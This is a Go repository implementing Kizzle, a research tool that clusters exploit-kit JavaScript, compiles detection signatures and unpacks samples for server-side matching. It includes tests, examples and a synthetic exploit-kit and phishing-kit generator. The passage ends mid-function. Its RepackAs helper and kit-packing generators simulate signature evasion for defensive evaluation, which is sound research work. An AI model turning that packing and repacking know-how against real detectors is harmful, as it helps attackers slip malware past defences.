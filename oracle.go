package kizzle

import (
	"kizzle/internal/ingest"
	"kizzle/internal/pipeline"
)

// Oracle implements the paper's §V counter-evasion proposal: "hidden
// signatures on the server side ... As they never leave the server, the
// adversary has no means of learning what they match on and, thus, is not
// able to circumvent detection."
//
// Instead of matching the packed form, the Oracle unpacks a sample and
// winnow-matches the *inner* payload against the known corpus. An attacker
// who replaces the packer wholesale — or borrows a rival kit's packer —
// defeats every deployed structural signature, but the slow-moving core
// still gives the kit away; and because the decision runs server-side, the
// attacker cannot iterate against it the way they iterate against AV.
type Oracle struct {
	corpus *pipeline.Corpus
	cfg    pipeline.Config
}

// NewOracle builds an oracle; the labeling thresholds from the options
// (WithThreshold etc.) govern its decisions just like the pipeline's
// cluster labeling.
func NewOracle(opts ...Option) *Oracle {
	cfg := pipeline.DefaultConfig()
	for _, opt := range opts {
		opt(&cfg)
	}
	return &Oracle{cfg: cfg, corpus: pipeline.NewCorpus(cfg.Winnow, 64)}
}

// AddKnown seeds the oracle's hidden corpus with a labeled unpacked payload.
func (o *Oracle) AddKnown(family, unpackedPayload string) {
	o.corpus.Add(family, unpackedPayload)
}

// Verdict is the oracle's decision for one sample.
type Verdict struct {
	// Detected reports whether the sample matched a known family above
	// its threshold.
	Detected bool
	// Family is the best-matching family (set even below threshold).
	Family string
	// Overlap is the winnow overlap with that family's corpus.
	Overlap float64
	// Unpacked reports whether a known packer structure was decoded
	// (the comparison otherwise ran on the raw script text).
	Unpacked bool
}

// Inspect unpacks the document (if a packer structure known to the
// oracle's ingest profile is present — see WithProfile) and compares the
// inner payload against the hidden corpus.
func (o *Oracle) Inspect(doc string) Verdict {
	var v Verdict
	p := o.cfg.Profile
	if p == nil {
		p = ingest.Default()
	}
	payload := ""
	if res, err := p.Unpack(doc); err == nil {
		payload = res.Payload
		v.Unpacked = true
	} else {
		payload = p.ExtractScripts(doc)
	}
	v.Family, v.Overlap = o.corpus.BestMatch(payload)
	if v.Family != "" && v.Overlap >= o.cfg.Threshold(v.Family) {
		v.Detected = true
	}
	return v
}
