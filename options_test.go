package kizzle_test

import (
	"strings"
	"testing"

	"kizzle"
)

// TestOptionValidation covers every Option with a valid and (where the
// option can be misconfigured) an invalid value: invalid values must
// surface a named error from Process instead of being silently clamped,
// and valid values must not. Output-invariant toggles with no invalid
// inputs (WithBatchDispatch, WithCoordinatorPreReduce,
// WithoutShardAffinity, WithScheduleSeed, WithCacheBytes — where a
// negative budget is the documented cache-disable) appear with valid
// rows only.
func TestOptionValidation(t *testing.T) {
	samples := []kizzle.Sample{
		{ID: "a", Content: "var a = unescape('%61%62%63');"},
		{ID: "b", Content: "var b = 2; function f() { return b; }"},
	}
	cases := []struct {
		name    string
		opts    []kizzle.Option
		wantErr string // empty = must succeed
	}{
		{"WithProfile valid", []kizzle.Option{kizzle.WithProfile("js")}, ""},
		{"WithProfile webkit", []kizzle.Option{kizzle.WithProfile("webkit")}, ""},
		{"WithProfile unknown", []kizzle.Option{kizzle.WithProfile("cobol")}, `unknown ingest profile "cobol"`},
		{"WithWorkers valid", []kizzle.Option{kizzle.WithWorkers(2)}, ""},
		{"WithWorkers zero keeps default", []kizzle.Option{kizzle.WithWorkers(0)}, ""},
		{"WithWorkers negative", []kizzle.Option{kizzle.WithWorkers(-1)}, "WithWorkers: negative worker count -1"},
		{"WithEps valid", []kizzle.Option{kizzle.WithEps(0.15)}, ""},
		{"WithEps zero", []kizzle.Option{kizzle.WithEps(0)}, "WithEps: threshold 0 outside (0, 1]"},
		{"WithEps above one", []kizzle.Option{kizzle.WithEps(1.5)}, "WithEps: threshold 1.5 outside (0, 1]"},
		{"WithMinPts valid", []kizzle.Option{kizzle.WithMinPts(3)}, ""},
		{"WithMinPts negative", []kizzle.Option{kizzle.WithMinPts(-2)}, "WithMinPts: negative neighborhood size -2"},
		{"WithThreshold valid", []kizzle.Option{kizzle.WithThreshold("Angler", 0.8)}, ""},
		{"WithThreshold suppressing above one", []kizzle.Option{kizzle.WithThreshold("Angler", 1.01)}, ""},
		{"WithThreshold empty family", []kizzle.Option{kizzle.WithThreshold("", 0.8)}, "WithThreshold: empty family name"},
		{"WithThreshold negative", []kizzle.Option{kizzle.WithThreshold("Angler", -0.1)}, `WithThreshold("Angler"): negative threshold -0.1`},
		{"WithDefaultThreshold valid", []kizzle.Option{kizzle.WithDefaultThreshold(0.7)}, ""},
		{"WithDefaultThreshold negative", []kizzle.Option{kizzle.WithDefaultThreshold(-1)}, "WithDefaultThreshold: negative threshold -1"},
		{"WithSignatureTokens valid", []kizzle.Option{kizzle.WithSignatureTokens(5, 200)}, ""},
		{"WithSignatureTokens min below one", []kizzle.Option{kizzle.WithSignatureTokens(0, 10)}, "WithSignatureTokens: invalid bounds [0, 10]"},
		{"WithSignatureTokens max below min", []kizzle.Option{kizzle.WithSignatureTokens(10, 5)}, "WithSignatureTokens: invalid bounds [10, 5]"},
		{"WithSignatureSlack valid", []kizzle.Option{kizzle.WithSignatureSlack(2)}, ""},
		{"WithSignatureSlack negative", []kizzle.Option{kizzle.WithSignatureSlack(-1)}, "WithSignatureSlack: negative slack -1"},
		{"WithPartitionSize valid", []kizzle.Option{kizzle.WithPartitionSize(100)}, ""},
		{"WithPartitionSize negative", []kizzle.Option{kizzle.WithPartitionSize(-5)}, "WithPartitionSize: negative partition size -5"},
		{"WithPartitionFanout valid", []kizzle.Option{kizzle.WithPartitionFanout(4)}, ""},
		{"WithPartitionFanout zero", []kizzle.Option{kizzle.WithPartitionFanout(0)}, "WithPartitionFanout: fanout 0 below 1"},
		{"WithNoiseChunk valid", []kizzle.Option{kizzle.WithNoiseChunk(500)}, ""},
		{"WithNoiseChunk negative", []kizzle.Option{kizzle.WithNoiseChunk(-1)}, "WithNoiseChunk: negative chunk size -1"},
		{"WithBatchDispatch", []kizzle.Option{kizzle.WithBatchDispatch()}, ""},
		{"WithCoordinatorPreReduce", []kizzle.Option{kizzle.WithCoordinatorPreReduce()}, ""},
		{"WithCacheBytes valid", []kizzle.Option{kizzle.WithCacheBytes(1 << 20)}, ""},
		{"WithCacheBytes negative disables", []kizzle.Option{kizzle.WithCacheBytes(-1)}, ""},
		{"WithShardWorkers empty list stays in-process", []kizzle.Option{kizzle.WithShardWorkers()}, ""},
		{"WithShardWorkers empty URL", []kizzle.Option{kizzle.WithShardWorkers("http://shard-0:9191", "")}, "WithShardWorkers: empty URL at position 1"},
		{"WithoutShardAffinity", []kizzle.Option{kizzle.WithoutShardAffinity()}, ""},
		{"WithScheduleSeed", []kizzle.Option{kizzle.WithScheduleSeed(42)}, ""},
		{"two faults both reported", []kizzle.Option{kizzle.WithWorkers(-1), kizzle.WithEps(0)}, "WithWorkers: negative worker count -1; WithEps: threshold 0 outside (0, 1]"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := kizzle.New(tc.opts...)
			_, err := c.Process(samples)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("valid options failed: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("invalid options silently accepted, want error containing %q", tc.wantErr)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("error %q does not name the fault %q", err, tc.wantErr)
			}
		})
	}
}
