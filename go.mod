module kizzle

go 1.24
