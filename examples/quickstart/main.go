// Quickstart: seed the compiler with known unpacked kit payloads, run it
// over one day of grayware, inspect the clusters and generated signatures,
// and deploy them to detect a fresh variant.
package main

import (
	"fmt"
	"log"
	"time"

	"kizzle"
	"kizzle/synth"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	day := synth.Date(time.August, 5)

	// 1. Seed Kizzle with known unpacked exploit-kit payloads. In a real
	// deployment these come from an analyst or a malware feed; here the
	// synthetic substrate provides them.
	compiler := kizzle.New()
	for _, kit := range synth.Kits() {
		compiler.AddKnown(kit.String(), synth.Payload(kit, day-1))
	}
	fmt.Println("seeded families:", compiler.KnownFamilies())

	// 2. Collect a day of grayware (benign traffic plus kit landings).
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 150
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return err
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}

	// 3. Cluster, label, and compile signatures.
	res, err := compiler.Process(batch)
	if err != nil {
		return err
	}
	fmt.Printf("processed %d samples -> %d clusters (%d malicious), %d signatures\n",
		res.Stats.Samples, res.Stats.Clusters, res.Stats.MaliciousClusters, len(res.Signatures))
	for _, sig := range res.Signatures {
		fmt.Printf("  %-13s %4d tokens, %5d chars\n", sig.Family(), sig.TokenLength(), sig.Length())
	}

	// 4. Deploy the signatures and scan a next-day sample.
	matcher, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		return err
	}
	fresh := stream.MaliciousDay(day + 1)
	detected := 0
	for _, s := range fresh {
		if matcher.Detects(s.Content) {
			detected++
		}
	}
	fmt.Printf("next-day detection: %d/%d malicious samples\n", detected, len(fresh))
	return nil
}
