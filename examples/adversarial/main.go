// Adversarial replays the adversarial cycle of Figure 1 over Nuclear's
// August 2014 delimiter churn (Figure 5): the kit mutates its packer on
// 8/17, 8/19, 8/22 and 8/26; a static signature written on 8/14 goes blind
// at the first mutation, while Kizzle regenerates daily and re-acquires the
// kit within a day of every change.
package main

import (
	"fmt"
	"log"
	"time"

	"kizzle"
	"kizzle/synth"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	start, end := synth.Date(time.August, 14), synth.Date(time.August, 28)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 60
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return err
	}

	// The static defender: one signature set compiled on the first day,
	// never updated — a stand-in for a slow manual process.
	static, err := signaturesFor(stream, start)
	if err != nil {
		return err
	}
	staticMatcher, err := kizzle.NewMatcher(static)
	if err != nil {
		return err
	}

	fmt.Println("day    nuclear  static-detects  kizzle-detects")
	for day := start; day <= end; day++ {
		// The adaptive defender: Kizzle reruns every day on that
		// day's traffic and deploys fresh signatures.
		daily, err := signaturesFor(stream, day)
		if err != nil {
			return err
		}
		kizzleMatcher, err := kizzle.NewMatcher(daily)
		if err != nil {
			return err
		}

		var total, staticHits, kizzleHits int
		for _, s := range stream.Day(day) {
			if s.Family != synth.Nuclear {
				continue
			}
			total++
			if staticMatcher.Detects(s.Content) {
				staticHits++
			}
			if kizzleMatcher.Detects(s.Content) {
				kizzleHits++
			}
		}
		if total == 0 {
			continue
		}
		fmt.Printf("%-6s %7d %10d/%-2d %12d/%-2d\n", synth.Label(day), total, staticHits, total, kizzleHits, total)
	}
	fmt.Println("\nNuclear changed its packer delimiter on 8/17, 8/19, 8/22 and 8/26;")
	fmt.Println("the static signature never recovers, Kizzle tracks every change.")
	return nil
}

// signaturesFor runs the compiler over one day's traffic and returns the
// Nuclear signatures it produced.
func signaturesFor(stream *synth.Stream, day int) ([]kizzle.Signature, error) {
	compiler := kizzle.New()
	for _, kit := range synth.Kits() {
		compiler.AddKnown(kit.String(), synth.Payload(kit, day-1))
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	res, err := compiler.Process(batch)
	if err != nil {
		return nil, err
	}
	var out []kizzle.Signature
	for _, sig := range res.Signatures {
		if sig.Family() == "Nuclear" {
			out = append(out, sig)
		}
	}
	return out, nil
}
