// Signatures walks through the paper's Figure 9 worked example: three
// captured variants of a Nuclear eval trigger differ only in randomized
// names, and Kizzle generalizes them into one structural regex — literal
// where they agree, character classes where they diverge, back-references
// where a packer reuses a templatized variable.
package main

import (
	"fmt"
	"log"

	"kizzle"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// The three cluster samples of Figure 9. There is no grayware stream
	// here: we drive the compiler directly with a known-malicious batch
	// by seeding the corpus with one of the (trivially "unpacked")
	// samples and lowering the cluster-size floor.
	variants := []string{
		`Euur1V = this["l9D"]("ev#333399al"); Euur1V("go");`,
		`jkb0hA = this["uqA"]("ev#ccff00al"); jkb0hA("go");`,
		`QB0Xk = this["k3LSC"]("ev#33cc00al"); QB0Xk("go");`,
	}
	compiler := kizzle.New(
		kizzle.WithThreshold("Nuclear", 0.2),
		kizzle.WithSignatureTokens(5, 200),
	)
	compiler.AddKnown("Nuclear", variants[0])

	batch := make([]kizzle.Sample, len(variants))
	for i, v := range variants {
		batch[i] = kizzle.Sample{ID: fmt.Sprintf("variant-%d", i), Content: v}
	}
	res, err := compiler.Process(batch)
	if err != nil {
		return err
	}
	if len(res.Signatures) == 0 {
		return fmt.Errorf("no signature generated")
	}
	sig := res.Signatures[0]
	fmt.Println("input variants:")
	for _, v := range variants {
		fmt.Println("  ", v)
	}
	fmt.Printf("\ngenerated signature (%d tokens):\n  %s\n\n", sig.TokenLength(), sig.Regex())

	// The signature generalizes: a fourth variant with fresh random
	// names matches; structurally different code does not.
	matcher, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		return err
	}
	tests := []struct {
		label, doc string
	}{
		{"fresh variant ", `Zk99x = this["abc"]("ev#00ff00al"); Zk99x("go");`},
		{"benign lookup ", `config = window["settings"]("ui-theme-dark"); config("go");`},
		{"plain js      ", `var x = document.title;`},
	}
	for _, tc := range tests {
		fmt.Printf("%s -> detected=%v\n", tc.label, matcher.Detects(tc.doc))
	}
	return nil
}
