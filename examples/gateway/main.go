// Gateway demonstrates the paper's server-side deployment channel: a CDN
// administrator compiles the current Kizzle signature set once and vets
// every JavaScript document before agreeing to host it, blocking exploit-
// kit landings while passing benign libraries through.
package main

import (
	"fmt"
	"log"
	"time"

	"kizzle"
	"kizzle/synth"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	day := synth.Date(time.August, 20)

	// Build today's signature set from the grayware feed.
	compiler := kizzle.New()
	for _, kit := range synth.Kits() {
		compiler.AddKnown(kit.String(), synth.Payload(kit, day-1))
	}
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 120
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return err
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	res, err := compiler.Process(batch)
	if err != nil {
		return err
	}
	gate, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		return err
	}
	fmt.Printf("gateway armed with %d signatures\n\n", gate.Len())

	// Vet the next day's upload queue.
	uploads := stream.Day(day + 1)
	var blocked, passed, wrongCalls int
	for _, doc := range uploads {
		matches := gate.Scan(doc.Content)
		if len(matches) > 0 {
			blocked++
			if doc.Family == synth.Benign {
				wrongCalls++
			}
			if blocked <= 8 {
				fmt.Printf("BLOCK %-14s as %-13s (truth: %s)\n", doc.ID, matches[0].Family, truth(doc))
			}
		} else {
			passed++
			if doc.Family != synth.Benign {
				wrongCalls++
			}
		}
	}
	fmt.Printf("\nvetted %d uploads: %d blocked, %d passed, %d wrong calls\n",
		len(uploads), blocked, passed, wrongCalls)
	return nil
}

func truth(s synth.Sample) string {
	if s.Family == synth.Benign {
		return "benign/" + s.BenignKind
	}
	return s.Family.String()
}
