// Oracle demonstrates the paper's §V hidden server-side detection: an
// attacker who swaps his kit's packer wholesale (here: re-wrapping the
// Nuclear payload in RIG's packer, the kind of cross-kit code borrowing
// §II-B documents) evades every deployed structural signature — but the
// server-side oracle, which unpacks and compares the slow-moving inner
// payload, still catches the sample, and cannot be probed the way client
// signatures can.
package main

import (
	"fmt"
	"log"
	"time"

	"kizzle"
	"kizzle/synth"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	day := synth.Date(time.August, 10)

	// Client side: today's structural signatures.
	compiler := kizzle.New()
	oracle := kizzle.NewOracle()
	for _, kit := range synth.Kits() {
		compiler.AddKnown(kit.String(), synth.Payload(kit, day-1))
		oracle.AddKnown(kit.String(), synth.Payload(kit, day-1))
	}
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 80
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return err
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	res, err := compiler.Process(batch)
	if err != nil {
		return err
	}
	matcher, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		return err
	}

	// The attacker's move: Nuclear's payload inside RIG's packer.
	swapped, err := synth.RepackAs(synth.Nuclear, synth.RIG, day)
	if err != nil {
		return err
	}

	fmt.Println("attacker re-wraps the Nuclear payload in RIG's packer:")
	fmt.Printf("  deployed structural signatures detect it: %v\n", matcher.Detects(swapped))
	v := oracle.Inspect(swapped)
	fmt.Printf("  hidden server-side oracle verdict:        detected=%v family=%s overlap=%.0f%% (unpacked=%v)\n",
		v.Detected, v.Family, 100*v.Overlap, v.Unpacked)

	// And a benign control.
	benign := `var x = document.getElementById("menu"); x.className = "open";`
	fmt.Printf("  oracle on benign control:                 detected=%v\n", oracle.Inspect(benign).Detected)
	return nil
}
