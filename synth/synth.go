package synth

import (
	"fmt"
	"time"

	"kizzle/internal/ekit"
	"kizzle/internal/unpack"
)

// Family identifies a sample's ground-truth origin.
type Family = ekit.Family

// Families and the benign zero value.
const (
	Benign      = ekit.FamilyBenign
	RIG         = ekit.FamilyRIG
	Nuclear     = ekit.FamilyNuclear
	Angler      = ekit.FamilyAngler
	SweetOrange = ekit.FamilySweetOrange
)

// Kits lists the four malicious families.
func Kits() []Family { return append([]Family(nil), ekit.Families...) }

// Sample is one generated document with ground truth attached.
type Sample = ekit.Sample

// Config scales the stream; see DefaultConfig.
type Config = ekit.StreamConfig

// DefaultConfig is the evaluation-scale stream (a ~1:30 scale model of the
// paper's daily volumes).
func DefaultConfig() Config { return ekit.DefaultStreamConfig() }

// Stream generates deterministic daily grayware.
type Stream struct {
	inner *ekit.Stream
}

// NewStream validates cfg and builds a stream.
func NewStream(cfg Config) (*Stream, error) {
	s, err := ekit.NewStream(cfg)
	if err != nil {
		return nil, fmt.Errorf("synth: %w", err)
	}
	return &Stream{inner: s}, nil
}

// Day returns the full sample set for a simulation day (see Day helpers).
func (s *Stream) Day(day int) []Sample { return s.inner.Day(day) }

// MaliciousDay returns only the kit traffic of a day.
func (s *Stream) MaliciousDay(day int) []Sample { return s.inner.MaliciousDay(day) }

// Day helpers: the simulation calendar counts days from 2014-06-01.

// Date converts a 2014 month/day pair to a simulation day (e.g.
// Date(time.August, 13) is the Angler variant flip).
func Date(month time.Month, day int) int { return ekit.Date(month, day) }

// Label renders a day as "8/13".
func Label(day int) string { return ekit.Label(day) }

// AugustDays returns the paper's 31-day evaluation window.
func AugustDays() []int { return ekit.AugustDays() }

// Payload returns a kit's unpacked inner payload on a day — use it to seed
// kizzle.Compiler.AddKnown.
func Payload(family Family, day int) string { return ekit.Payload(family, day) }

// Unpack statically decodes a packed kit sample (any of the four packer
// formats) and returns the inner payload, or an error when the document is
// not recognizably packed.
func Unpack(doc string) (string, error) {
	res, err := unpack.Unpack(doc)
	if err != nil {
		return "", fmt.Errorf("synth: %w", err)
	}
	return res.Payload, nil
}

// RepackAs simulates the cross-kit code borrowing of §II-B as an evasion:
// it wraps payloadOf's inner payload of the given day in packerOf's packer.
// Structural signatures trained on payloadOf's usual packed form will not
// match the result; the unpacked core is unchanged.
func RepackAs(payloadOf, packerOf Family, day int) (string, error) {
	if !payloadOf.Malicious() || !packerOf.Malicious() {
		return "", fmt.Errorf("synth: RepackAs needs two kit families, got %v/%v", payloadOf, packerOf)
	}
	return ekit.Pack(packerOf, ekit.Payload(payloadOf, day), day, 0), nil
}
