// Package synth exposes the synthetic exploit-kit grayware generator used
// throughout the evaluation: deterministic daily streams of benign traffic
// plus the four studied kits (RIG, Nuclear, Angler, Sweet Orange), with the
// paper's August 2014 mutation timelines. Use it to seed and exercise the
// kizzle compiler when you have no telemetry feed of your own.
package synth
