package synth

import (
	"fmt"

	"kizzle/internal/phishkit"
	"kizzle/internal/webkittoken"
)

// Webkit workload: synthetic HTML/PHP/JS web phishing-kit bundles, the
// second corpus the pluggable ingest front-end serves (profile
// "webkit"). The generators mirror the JS exploit-kit stream's contract
// — deterministic in (config, day), per-family version flips on fixed
// cadences — so the same harness patterns (seed the oracle with
// yesterday's payload, compile today, vet tomorrow) apply unchanged.

// WebkitFamily identifies a phishing-kit sample's ground-truth origin.
type WebkitFamily = phishkit.Family

// Webkit families and the benign zero value.
const (
	WebkitBenign = phishkit.FamilyBenign
	Strato       = phishkit.FamilyStrato
	Chalbhai     = phishkit.FamilyChalbhai
	Xbalti       = phishkit.FamilyXbalti
	Shop16       = phishkit.FamilyShop16
)

// WebkitKits lists the four malicious phishing-kit families.
func WebkitKits() []WebkitFamily { return append([]WebkitFamily(nil), phishkit.Families...) }

// WebkitSample is one generated phishing-kit-era document with ground
// truth attached.
type WebkitSample = phishkit.Sample

// WebkitConfig scales the webkit stream; see DefaultWebkitConfig.
type WebkitConfig = phishkit.StreamConfig

// DefaultWebkitConfig is the evaluation-scale phishing stream.
func DefaultWebkitConfig() WebkitConfig { return phishkit.DefaultStreamConfig() }

// WebkitStream generates deterministic daily phishing-site traffic.
type WebkitStream struct {
	inner *phishkit.Stream
}

// NewWebkitStream validates cfg and builds a stream.
func NewWebkitStream(cfg WebkitConfig) (*WebkitStream, error) {
	s, err := phishkit.NewStream(cfg)
	if err != nil {
		return nil, fmt.Errorf("synth: %w", err)
	}
	return &WebkitStream{inner: s}, nil
}

// Day returns the full sample set for a simulation day.
func (s *WebkitStream) Day(day int) []WebkitSample { return s.inner.Day(day) }

// MaliciousDay returns only the kit traffic of a day.
func (s *WebkitStream) MaliciousDay(day int) []WebkitSample { return s.inner.MaliciousDay(day) }

// WebkitPayload returns a phishing kit's unpacked inner payload on a day
// — use it to seed kizzle.Compiler.AddKnown under the namespaced family
// name ("webkit/" + family.String()).
func WebkitPayload(family WebkitFamily, day int) string { return phishkit.Payload(family, day) }

// WebkitUnpack statically decodes a packed phishing-kit sample (the
// base64/eval onion the kits ship as) and returns the inner payload, or
// an error when the document is not recognizably packed.
func WebkitUnpack(doc string) (string, error) {
	payload, err := webkittoken.Unpack(doc)
	if err != nil {
		return "", fmt.Errorf("synth: %w", err)
	}
	return payload, nil
}
