package kizzle_test

import (
	"strings"
	"testing"

	"kizzle"
	"kizzle/synth"
)

func august(day int) int { return synth.Date(8, day) }

func newSeededCompiler(t *testing.T, day int, opts ...kizzle.Option) *kizzle.Compiler {
	t.Helper()
	c := kizzle.New(opts...)
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
		c.AddKnown(fam.String(), synth.Payload(fam, day-2))
	}
	return c
}

func daySamples(t *testing.T, day, benign int) []kizzle.Sample {
	t.Helper()
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = benign
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var out []kizzle.Sample
	for _, s := range stream.Day(day) {
		out = append(out, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	return out
}

// TestEndToEnd drives the full public API: seed, process a day, deploy the
// signatures, detect a next-day variant.
func TestEndToEnd(t *testing.T) {
	day := august(5)
	c := newSeededCompiler(t, day)
	res, err := c.Process(daySamples(t, day, 150))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Signatures) == 0 {
		t.Fatal("no signatures generated")
	}
	families := make(map[string]bool)
	for _, sig := range res.Signatures {
		families[sig.Family()] = true
		if sig.Length() == 0 || sig.TokenLength() == 0 {
			t.Errorf("degenerate signature for %s", sig.Family())
		}
		if sig.Regex() == "" {
			t.Errorf("empty regex for %s", sig.Family())
		}
	}
	for _, want := range []string{"Angler", "Sweet Orange", "Nuclear"} {
		if !families[want] {
			t.Errorf("no signature for %s (got %v)", want, families)
		}
	}

	m, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		t.Fatal(err)
	}
	if m.Len() != len(res.Signatures) {
		t.Errorf("Len = %d, want %d", m.Len(), len(res.Signatures))
	}
	// Next-day traffic of the same kit versions must be detected.
	detected, total := 0, 0
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(day + 1) {
		if s.Family == synth.RIG {
			continue // RIG churns daily; covered in the harness tests
		}
		total++
		if m.Detects(s.Content) {
			detected++
		}
	}
	if total == 0 {
		t.Fatal("no malicious next-day samples")
	}
	// Paper-faithful signatures use exactly observed class lengths, so
	// small clusters generalize imperfectly across days; Kizzle
	// compensates by regenerating daily (see the evaluation harness).
	if detected < total*3/4 {
		t.Errorf("next-day detection %d/%d, want >= 75%%", detected, total)
	}
}

func TestProcessEmpty(t *testing.T) {
	c := kizzle.New()
	if _, err := c.Process(nil); err == nil {
		t.Error("expected error for empty batch")
	}
}

func TestMatcherRejectsInvalid(t *testing.T) {
	var bad kizzle.Signature // zero value: no elements
	if _, err := kizzle.NewMatcher([]kizzle.Signature{bad}); err == nil {
		t.Error("expected compile error for zero-value signature")
	}
	m, err := kizzle.NewMatcher(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Add(bad); err == nil {
		t.Error("expected Add error for zero-value signature")
	}
}

func TestKnownFamilies(t *testing.T) {
	c := kizzle.New()
	if got := c.KnownFamilies(); len(got) != 0 {
		t.Errorf("fresh compiler KnownFamilies = %v", got)
	}
	c.AddKnown("Nuclear", "payload text")
	if got := c.KnownFamilies(); len(got) != 1 || got[0] != "Nuclear" {
		t.Errorf("KnownFamilies = %v", got)
	}
}

func TestOptions(t *testing.T) {
	day := august(6)
	// An absurdly high default threshold suppresses all labels.
	c := newSeededCompiler(t, day,
		kizzle.WithDefaultThreshold(1.01),
		kizzle.WithThreshold("Nuclear", 1.01),
		kizzle.WithThreshold("RIG", 1.01),
		kizzle.WithThreshold("Sweet Orange", 1.01),
		kizzle.WithThreshold("Angler", 1.01),
	)
	res, err := c.Process(daySamples(t, day, 60))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Signatures) != 0 {
		t.Errorf("threshold 1.01 still produced %d signatures", len(res.Signatures))
	}

	// Tiny eps shatters clusters; the run must still succeed.
	c2 := newSeededCompiler(t, day, kizzle.WithEps(0.0001), kizzle.WithMinPts(2), kizzle.WithWorkers(2))
	if _, err := c2.Process(daySamples(t, day, 40)); err != nil {
		t.Fatal(err)
	}
}

func TestClusterSampleIDs(t *testing.T) {
	day := august(7)
	c := newSeededCompiler(t, day)
	samples := daySamples(t, day, 80)
	res, err := c.Process(samples)
	if err != nil {
		t.Fatal(err)
	}
	valid := make(map[string]bool, len(samples))
	for _, s := range samples {
		valid[s.ID] = true
	}
	seen := 0
	for _, cl := range res.Clusters {
		for _, id := range cl.SampleIDs {
			if !valid[id] {
				t.Fatalf("cluster references unknown sample %q", id)
			}
			seen++
		}
		if cl.Family != "" && !strings.Contains(cl.Unpacked, "function") {
			t.Errorf("malicious cluster %s unpacked to non-code", cl.Family)
		}
	}
	if seen == 0 {
		t.Error("no samples clustered")
	}
}

func TestSynthUnpack(t *testing.T) {
	day := august(5)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.MaliciousDay(day) {
		payload, uerr := synth.Unpack(s.Content)
		if uerr != nil {
			t.Fatalf("%s: %v", s.ID, uerr)
		}
		if payload != synth.Payload(s.Family, day) {
			t.Fatalf("%s: unpack mismatch", s.ID)
		}
	}
	if _, err := synth.Unpack("var benign = 1;"); err == nil {
		t.Error("expected error unpacking benign content")
	}
}

func TestSynthCalendar(t *testing.T) {
	if synth.Label(synth.Date(8, 13)) != "8/13" {
		t.Error("calendar mismatch")
	}
	if len(synth.AugustDays()) != 31 {
		t.Error("August must have 31 days")
	}
}

// TestSignatureSlackImprovesNextDayDetection is the generalization-slack
// ablation at unit scale: with slack, next-day coverage must not decrease.
func TestSignatureSlackImprovesNextDayDetection(t *testing.T) {
	day := august(5)
	detect := func(opts ...kizzle.Option) (detected, total int) {
		c := newSeededCompiler(t, day, opts...)
		res, err := c.Process(daySamples(t, day, 100))
		if err != nil {
			t.Fatal(err)
		}
		m, err := kizzle.NewMatcher(res.Signatures)
		if err != nil {
			t.Fatal(err)
		}
		cfg := synth.DefaultConfig()
		cfg.BenignPerDay = 0
		stream, err := synth.NewStream(cfg)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range stream.Day(day + 1) {
			if s.Family == synth.RIG {
				continue
			}
			total++
			if m.Detects(s.Content) {
				detected++
			}
		}
		return detected, total
	}
	exact, total := detect()
	slack, _ := detect(kizzle.WithSignatureSlack(6))
	if slack < exact {
		t.Errorf("slack detection %d/%d below exact %d/%d", slack, total, exact, total)
	}
	if slack < total*95/100 {
		t.Errorf("slack detection %d/%d, want >= 95%%", slack, total)
	}
}

// TestRemainingAPISurface exercises options and accessors not covered by
// the scenario tests.
func TestRemainingAPISurface(t *testing.T) {
	day := august(6)
	c := newSeededCompiler(t, day,
		kizzle.WithSignatureTokens(8, 150),
		kizzle.WithPartitionSize(50),
		kizzle.WithWorkers(2),
	)
	res, err := c.Process(daySamples(t, day, 60))
	if err != nil {
		t.Fatal(err)
	}
	for _, sig := range res.Signatures {
		if sig.TokenLength() > 150 {
			t.Errorf("%s signature %d tokens exceeds configured cap", sig.Family(), sig.TokenLength())
		}
	}
	m, err := kizzle.NewMatcher(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, sig := range res.Signatures {
		if err := m.Add(sig); err != nil {
			t.Fatal(err)
		}
	}
